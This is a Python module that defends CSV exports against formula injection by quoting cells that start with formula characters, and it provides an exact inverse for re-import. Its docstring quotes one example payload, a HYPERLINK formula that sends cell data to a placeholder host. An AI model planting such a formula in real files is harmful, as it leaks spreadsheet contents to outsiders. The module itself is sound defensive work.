"""CSV cells no spreadsheet runs as formulas, reversibly (OWASP's CSV injection rule).

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) runs a cell that starts
with ``=``, ``+``, ``-`` or ``@`` as a formula (OWASP adds a leading tab or
carriage return): a title such as ``=HYPERLINK("http://x/?"&A1, "Ver")`` in an export
would send the sheet's data elsewhere once opened. OWASP's rule
(https://owasp.org/www-community/attacks/CSV_Injection): prefix such a cell
with a single quote, which spreadsheets take as text.

The suite's CSV files load back with ``ckan pe-catalog import``, so the rule
must have an exact inverse: a cell that starts with quotes and then one of
those characters gains one more quote (``'=x`` is written ``''=x``), and
:func:`restore` removes exactly one. Plain numbers (``-12.5``) are left as
they are: no spreadsheet runs them, and they stay numbers.

defusedcsv (PyPI) applies a similar rule while writing, but it is not
reversible (it rewrites ``|`` and leaves ``'=x`` as it is) and it passes a
leading tab or carriage return.
"""

from __future__ import annotations

import re

# OWASP's characters, their full-width forms (some spreadsheets read them as
# the ASCII ones in East Asian locales), and the whitespace a cell may start
# with before them
FORMULA_STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
_NEEDS_QUOTE = re.compile(f"'*[{re.escape(FORMULA_STARTS)}]")
_QUOTED = re.compile(f"'+[{re.escape(FORMULA_STARTS)}]")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(cell: str) -> str:
    """The cell as a spreadsheet will show it as text, never run it."""
    if _NEEDS_QUOTE.match(cell) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The value :func:`neutralise` was given (the inverse, for imports)."""
    return cell[1:] if _QUOTED.match(cell) else cell
